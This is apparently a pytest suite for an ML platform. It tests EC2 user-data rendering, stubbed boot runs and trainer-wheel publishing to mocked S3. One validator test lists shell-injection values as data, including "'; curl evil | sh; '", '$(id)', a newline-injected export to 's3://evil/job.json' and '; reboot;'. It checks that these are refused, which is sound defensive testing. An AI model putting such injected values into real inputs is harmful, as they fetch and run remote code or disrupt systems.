"""EC2 user-data (rendered, syntax-checked and run against stub commands) and the trainer wheel in S3."""

from __future__ import annotations

import fnmatch
import io
import os
import re
import shutil
import subprocess
import textwrap
import tomllib
import zipfile
from importlib.metadata import version
from importlib.util import find_spec
from pathlib import Path
from string import Template
from types import SimpleNamespace

import pytest
from packaging.version import Version

import mltp
from mltp.compute import trainer_code, user_data
from mltp.compute.trainer_code import find_project_root, publish_trainer_code, read_sources, sources_sha256
from mltp.compute.user_data import USER_DATA_LIMIT, parse_user_data, render_user_data
from mltp.errors import ConfigError, MltpError

ROOT = Path(__file__).resolve().parents[1]
JOB = "s3://mltp-models/runs/iris-random-forest-20260101120000-a1b2c3/job.json"
OUTPUT = "s3://mltp-models/runs/iris-random-forest-20260101120000-a1b2c3/"
WHEEL = f"s3://mltp-models/code/trainer/{'0' * 64}/ml_training_platform-0.1.0-py3-none-any.whl"
REQUIREMENTS = f"s3://mltp-models/code/trainer/{'0' * 64}/trainer-requirements.txt"


def render(**overrides) -> str:
    arguments = {
        "job_uri": JOB,
        "output_prefix": OUTPUT,
        "wheel_uri": WHEEL,
        "requirements_uri": REQUIREMENTS,
        "max_runtime_minutes": 90,
        "region": "eu-west-1",
    }
    return render_user_data(**{**arguments, **overrides})


# --- rendering ------------------------------------------------------------------------------------------


def test_every_placeholder_is_filled_and_only_shell_variables_remain() -> None:
    placeholders = set(Template(user_data.TEMPLATE.read_text()).get_identifiers())
    assert placeholders == {
        "job_uri",
        "output_prefix",
        "wheel_uri",
        "requirements_uri",
        "max_runtime_minutes",
        "region",
    }
    script = render()
    assert set(re.findall(r"\$\{(\w+)", script)) <= {"MLTP_OUTPUT_PREFIX", "MLTP_TRAINER_WHEEL_URI"}
    assert "$$" not in script
    assert len(script.encode()) < USER_DATA_LIMIT


@pytest.mark.parametrize("wheel", [WHEEL, None])
def test_rendered_script_is_valid_bash(wheel: str | None) -> None:
    script = render(wheel_uri=wheel, requirements_uri=wheel and REQUIREMENTS)
    checked = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True, check=False)
    assert checked.returncode == 0, checked.stderr


def test_powers_off_always_and_schedules_the_hard_limit_first() -> None:
    lines = render().splitlines()
    assert lines[0] == "#!/bin/bash"
    assert "set -euo pipefail" in lines
    trap, limit = lines.index("trap finish EXIT"), lines.index("shutdown -h +90")
    assert trap < limit < min(i for i, line in enumerate(lines) if "dnf install" in line)
    finish = "\n".join(lines[lines.index("finish() {") : trap])
    assert "shutdown -h now" in finish
    assert (
        '--sse AES256 --region "$AWS_REGION" \\\n        "$LOG" "${MLTP_OUTPUT_PREFIX}logs/bootstrap.log"'
        in finish
    )


def test_instance_id_comes_from_imdsv2_with_a_token() -> None:
    script = render()
    assert (
        "-X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 300' http://169.254.169.254/latest/api/token"
        in script
    )
    assert '-H "X-aws-ec2-metadata-token: $token"' in script
    assert "169.254.169.254/latest/meta-data/instance-id" in script


def test_the_export_lines_parse_back() -> None:
    script = render()
    assert f"export MLTP_JOB_URI='{JOB}'" in script.splitlines()
    assert f"export MLTP_TRAINER_WHEEL_URI='{WHEEL}'" in script.splitlines()
    assert parse_user_data(script) == {"job_uri": JOB, "wheel_uri": WHEEL}
    preinstalled = render(wheel_uri=None, requirements_uri=None)
    assert "export MLTP_TRAINER_WHEEL_URI=''" in preinstalled.splitlines()
    assert parse_user_data(preinstalled) == {"job_uri": JOB, "wheel_uri": None}
    assert parse_user_data("#!/bin/bash\necho hello\n") == {"job_uri": None, "wheel_uri": None}


def test_holds_no_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzSECRETzz9"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
    script = render()
    assert secret not in script
    assert not re.search(
        r"A[KS]IA[0-9A-Z]{16}|aws_secret|secret_access|access_key|session_token", script, re.I
    )


def test_over_the_user_data_limit_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    padded = tmp_path / "bootstrap.sh"
    padded.write_text(user_data.TEMPLATE.read_text() + "#" * USER_DATA_LIMIT)
    monkeypatch.setattr(user_data, "TEMPLATE", padded)
    with pytest.raises(ConfigError, match="over EC2's limit of 16384"):
        render()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("job_uri", "s3://mltp-models/runs/x/job.json'; curl evil | sh; '"),
        ("job_uri", "s3://mltp-models/runs/a b/job.json"),
        ("job_uri", "s3://mltp-models/runs/$(id)/job.json"),
        ("job_uri", "s3://mltp-models/runs/${HOME}/job.json"),
        ("job_uri", "s3://mltp-models/runs/`id`/job.json"),
        ("job_uri", 's3://mltp-models/runs/"x"/job.json'),
        ("job_uri", "s3://mltp-models/runs/x/job.json\nexport MLTP_JOB_URI='s3://evil/job.json'"),
        ("job_uri", "https://mltp-models/runs/x/job.json"),
        ("job_uri", "s3://mltp-models/runs/x/"),
        ("output_prefix", "s3://mltp-models/runs/x"),
        ("output_prefix", "s3://mltp-models/runs/x;reboot/"),
        ("wheel_uri", "s3://mltp-models/code/trainer/abc/trainer.tar.gz"),
        ("wheel_uri", "s3://mltp-models/code/trainer/abc/$x.whl"),
        ("requirements_uri", "s3://mltp-models/code/trainer/abc/req's.txt"),
        ("requirements_uri", None),
        ("region", "eu-west-1'; reboot; '"),
        ("max_runtime_minutes", 0),
    ],
)
def test_unsafe_or_malformed_values_are_refused(field: str, value: object) -> None:
    with pytest.raises(ConfigError) as refused:
        render(**{field: value})
    assert "\n" not in str(refused.value)
    assert isinstance(refused.value, MltpError)


# --- the script's behaviour, with stub commands ----------------------------------------------------------

STUBS = {
    "curl": """
        echo "curl $*" >>"$CALLS"
        case "$*" in
            *"-X PUT"*) echo TOKEN123 ;;
            *"X-aws-ec2-metadata-token: TOKEN123"*) echo i-0123456789abcdef0 ;;
            *) exit 22 ;;
        esac
    """,
    "aws": """
        echo "aws $*" >>"$CALLS"
        src="${@: -2:1}" dst="${@: -1}"
        case "$dst" in
            s3://*) cp "$src" "$SHIPPED" ;;
            */) touch "$dst${src##*/}" ;;
            *) touch "$dst" ;;
        esac
    """,
    "dnf": 'echo "dnf $*" >>"$CALLS"; exit "${DNF_EXIT:-0}"',
    "shutdown": 'echo "shutdown $*" >>"$CALLS"',
    "python3.11": """
        echo "python3.11 $*" >>"$CALLS"
        mkdir -p "$3/bin" && cp "$STUB_DIR/venv-python" "$3/bin/python"
    """,
    "venv-python": """
        echo "python $* instance=$MLTP_INSTANCE_ID region=$AWS_DEFAULT_REGION" >>"$CALLS"
        [ "$2" = mltp.trainer ] && echo "trainer output" && exit "${TRAINER_EXIT:-0}"
        exit 0
    """,
}


def run_script(tmp_path: Path, script: str, preinstalled: bool = False, **env: str) -> SimpleNamespace:
    """Run rendered user-data with curl, aws, dnf, shutdown and python replaced by recording stubs and
    the machine paths moved under tmp_path."""
    stubs = tmp_path / "stubs"
    stubs.mkdir()
    for name, body in STUBS.items():
        (stubs / name).write_text("#!/bin/bash\n" + textwrap.dedent(body))
        (stubs / name).chmod(0o755)
    if preinstalled:
        (tmp_path / "opt/mltp/bin").mkdir(parents=True)
        shutil.copy(stubs / "venv-python", tmp_path / "opt/mltp/bin/python")
    moved = script.replace("/opt/mltp", f"{tmp_path}/opt/mltp").replace("/var/log/", f"{tmp_path}/")
    (tmp_path / "user-data").write_text(moved)
    calls, shipped = tmp_path / "calls", tmp_path / "shipped.log"
    result = subprocess.run(
        ["bash", str(tmp_path / "user-data")],
        env={
            **os.environ,
            "PATH": f"{stubs}:{os.environ['PATH']}",
            "CALLS": str(calls),
            "SHIPPED": str(shipped),
            "STUB_DIR": str(stubs),
            **env,
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    return SimpleNamespace(
        code=result.returncode,
        calls=calls.read_text().splitlines() if calls.exists() else [],
        shipped=shipped.read_text() if shipped.exists() else None,
    )


def test_boot_installs_runs_the_trainer_ships_the_log_and_powers_off(tmp_path: Path) -> None:
    run = run_script(tmp_path, render())
    assert run.code == 0
    assert run.calls[0] == "shutdown -h +90"
    assert run.calls[-1] == "shutdown -h now"
    assert any(call.startswith("dnf install -y python3.11 python3.11-pip") for call in run.calls)
    requirements = next(i for i, call in enumerate(run.calls) if "-r " in call and call.startswith("python"))
    wheel = next(i for i, call in enumerate(run.calls) if "--no-deps" in call)
    trainer = run.calls.index(
        f"python -m mltp.trainer run --job {JOB} instance=i-0123456789abcdef0 region=eu-west-1"
    )
    assert requirements < wheel < trainer
    assert (
        f"--no-deps {tmp_path}/opt/mltp-dist/ml_training_platform-0.1.0-py3-none-any.whl " in run.calls[wheel]
    )
    assert f"aws s3 cp --only-show-errors --region eu-west-1 {WHEEL} {tmp_path}/opt/mltp-dist/" in run.calls
    assert f"{OUTPUT}logs/bootstrap.log" in run.calls[-2] and "--sse AES256" in run.calls[-2]
    assert "trainer output" in run.shipped and "exit status 0" in run.shipped


def test_preinstalled_trainer_runs_without_installing(tmp_path: Path) -> None:
    run = run_script(tmp_path, render(wheel_uri=None, requirements_uri=None), preinstalled=True)
    assert run.code == 0
    assert not any(call.startswith(("dnf", "python3.11")) or "pip" in call for call in run.calls)
    assert any(call.startswith("python -m mltp.trainer run") for call in run.calls)


@pytest.mark.parametrize(
    ("env", "expected"), [({"TRAINER_EXIT": "2"}, "exit status 2"), ({"DNF_EXIT": "1"}, "")]
)
def test_a_failure_still_ships_the_log_and_powers_off(tmp_path: Path, env: dict, expected: str) -> None:
    run = run_script(tmp_path, render(), **env)
    assert run.code != 0
    assert run.calls[-1] == "shutdown -h now"
    assert "logs/bootstrap.log" in run.calls[-2]
    assert "exit status" in run.shipped and expected in run.shipped


# --- the trainer wheel -----------------------------------------------------------------------------------


def fake_project(root: Path) -> Path:
    (root / "pkg/sub").mkdir(parents=True)
    (root / "pkg/__pycache__").mkdir()
    (root / "deployments").mkdir()
    (root / "pyproject.toml").write_text(
        '[project]\nname = "demo"\nversion = "1"\nreadme = "README.md"\n'
        '[tool.setuptools.packages.find]\ninclude = ["pkg*"]\n'
    )
    (root / "README.md").write_text("demo\n")
    (root / "deployments/trainer-requirements.txt").write_text("scikit-learn==1.9.0\n")
    (root / "pkg/__init__.py").write_text("")
    (root / "pkg/sub/mod.py").write_text("X = 1\n")
    (root / "pkg/__pycache__/mod.cpython-311.pyc").write_bytes(b"\0")
    (root / "tests").mkdir()
    (root / "tests/test_x.py").write_text("")
    return root


def test_source_hash_covers_the_packaged_files_and_the_requirements(tmp_path: Path) -> None:
    project = fake_project(tmp_path)
    sources = read_sources(project)
    assert list(sources) == [
        "README.md",
        "deployments/trainer-requirements.txt",
        "pkg/__init__.py",
        "pkg/sub/mod.py",
        "pyproject.toml",
    ]
    digest = sources_sha256(sources)
    assert re.fullmatch(r"[0-9a-f]{64}", digest)
    (project / "pkg/__pycache__/mod.cpython-311.pyc").write_bytes(b"\1")
    (project / "tests/test_x.py").write_text("changed = True\n")
    assert sources_sha256(read_sources(project)) == digest
    (project / "deployments/trainer-requirements.txt").write_text("scikit-learn==1.9.1\n")
    with_new_pin = sources_sha256(read_sources(project))
    assert with_new_pin != digest
    (project / "pkg/sub/mod.py").write_text("X = 2\n")
    assert sources_sha256(read_sources(project)) not in {digest, with_new_pin}


def _tricky_tree(root: Path) -> Path:
    """Namespace folders, dotted and cache folders, packages below excluded ones, a file named like a
    folder pattern."""
    for folder in (
        "pkg/sub/deep",
        "pkg/__pycache__",
        "pkg/sub/__pycache__",
        "pkg/data.files",
        "pkg/skipped/inner",
        "pkgextra",
        "other/pkg",
        ".hidden/pkg",
        "ez_setup",
        "tests",
    ):
        (root / folder).mkdir(parents=True, exist_ok=True)
    for init in ("pkg", "pkg/sub", "pkg/skipped", "pkg/skipped/inner", "other", "ez_setup"):
        (root / init / "__init__.py").write_text("")
    (root / "pkg/notafolder").write_text("")
    return root


@pytest.mark.parametrize("namespaces", [True, False], ids=["namespaces", "no namespaces"])
@pytest.mark.parametrize(
    ("include", "exclude"),
    [(["*"], []), (["pkg*"], ["pkg.skipped"]), (["pkg*", "other"], ["pkg.sub.*"]), (["p?g.s*"], [])],
)
def test_package_discovery_finds_what_setuptools_finds(
    tmp_path: Path, include: list[str], exclude: list[str], namespaces: bool
) -> None:
    from setuptools import find_namespace_packages, find_packages

    tree = _tricky_tree(tmp_path)
    setuptools_finds = (find_namespace_packages if namespaces else find_packages)(
        str(tree), include=include, exclude=exclude
    )
    assert sorted(trainer_code.find_packages(tree, include, exclude, namespaces)) == sorted(setuptools_finds)


def test_package_discovery_finds_what_setuptools_finds_in_this_checkout() -> None:
    from setuptools import find_namespace_packages

    find = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]["packages"]["find"]
    ours = trainer_code.find_packages(ROOT, find["include"], find.get("exclude", []))
    assert sorted(ours) == sorted(find_namespace_packages(str(ROOT), include=find["include"]))
    assert {"mltp", "mltp.trainer", "blocks", "flows", "tasks"} <= set(ours)


def test_missing_requirements_is_a_clear_error(tmp_path: Path) -> None:
    project = fake_project(tmp_path)
    (project / "deployments/trainer-requirements.txt").unlink()
    with pytest.raises(ConfigError, match=r"trainer-requirements\.txt is missing"):
        read_sources(project)


def test_project_root_is_the_source_checkout(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    assert find_project_root() == ROOT
    monkeypatch.setattr(mltp, "__file__", str(tmp_path / "site-packages/mltp/__init__.py"))
    with pytest.raises(ConfigError, match=r"source checkout.*EC2_TRAINER_PREINSTALLED=true"):
        find_project_root()


def test_a_failed_build_names_pip_s_reason(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    reason = (
        "ERROR: Some build dependencies conflict: setuptools==65.5.0 is incompatible with setuptools>=69."
    )
    failed = subprocess.CompletedProcess([], 1, "", f"noise\n{reason}\n")
    monkeypatch.setattr(trainer_code.subprocess, "run", lambda *args, **kwargs: failed)
    sources = read_sources(fake_project(tmp_path / "project"))
    with pytest.raises(MltpError, match=re.escape(reason)) as refused:
        trainer_code._build_wheel(sources, tmp_path / "scratch")
    assert "\n" not in str(refused.value)


def _can_build_offline() -> bool:
    setuptools = Version(version("setuptools"))
    return setuptools >= Version("70.1") or (setuptools >= Version("69") and find_spec("wheel") is not None)


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory):
    """One real wheel build for the module: a copy of this checkout's packaged sources, published to moto."""
    if not _can_build_offline():
        pytest.skip("building a wheel offline needs setuptools>=70.1 (or >=69 and wheel) in the environment")
    from moto import mock_aws

    project = tmp_path_factory.mktemp("trainer-project")
    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text())
    include = pyproject["tool"]["setuptools"]["packages"]["find"]["include"]
    for path in ROOT.iterdir():
        if path.is_dir() and any(fnmatch.fnmatch(path.name, pattern) for pattern in include):
            shutil.copytree(path, project / path.name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("pyproject.toml", pyproject["project"]["readme"]):
        shutil.copy(ROOT / name, project / name)
    (project / "deployments").mkdir()
    (project / trainer_code.REQUIREMENTS).write_text("scikit-learn==1.9.0\n")
    with mock_aws():
        import boto3

        s3 = boto3.client("s3", region_name="us-east-1")
        s3.create_bucket(Bucket="mltp-models")
        puts: list[str] = []
        s3.meta.events.register(
            "before-parameter-build.s3.PutObject", lambda params, **_: puts.append(params["Key"])
        )
        code = publish_trainer_code(s3, "mltp-models", project)
        yield SimpleNamespace(s3=s3, project=project, code=code, puts=puts)


def test_first_publish_uploads_requirements_then_wheel_encrypted(published) -> None:
    code = published.code
    assert code.source_sha256 == sources_sha256(read_sources(published.project))
    prefix = f"s3://mltp-models/code/trainer/{code.source_sha256}/"
    assert code.requirements_uri == f"{prefix}trainer-requirements.txt"
    assert code.wheel_uri == f"{prefix}ml_training_platform-{mltp.__version__}-py3-none-any.whl"
    keys = [uri.removeprefix("s3://mltp-models/") for uri in (code.requirements_uri, code.wheel_uri)]
    assert published.puts == keys
    for key in keys:
        assert published.s3.head_object(Bucket="mltp-models", Key=key)["ServerSideEncryption"] == "AES256"
    body = published.s3.get_object(Bucket="mltp-models", Key=keys[0])["Body"].read()
    assert body == b"scikit-learn==1.9.0\n"


def test_second_publish_reuses_the_wheel_without_building(published, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_build(*args, **kwargs):
        raise AssertionError("the wheel was built again")

    monkeypatch.setattr(trainer_code, "_build_wheel", no_build)
    assert publish_trainer_code(published.s3, "mltp-models", published.project) == published.code
    assert len(published.puts) == 2


def test_wheel_holds_the_trainer_at_this_version(published) -> None:
    key = published.code.wheel_uri.removeprefix("s3://mltp-models/")
    wheel = zipfile.ZipFile(io.BytesIO(published.s3.get_object(Bucket="mltp-models", Key=key)["Body"].read()))
    names = wheel.namelist()
    assert "mltp/trainer/runner.py" in names
    assert not any(name.startswith("tests/") or name.endswith(".pyc") for name in names)
    metadata = wheel.read(f"ml_training_platform-{mltp.__version__}.dist-info/METADATA").decode()
    assert f"\nVersion: {mltp.__version__}\n" in metadata
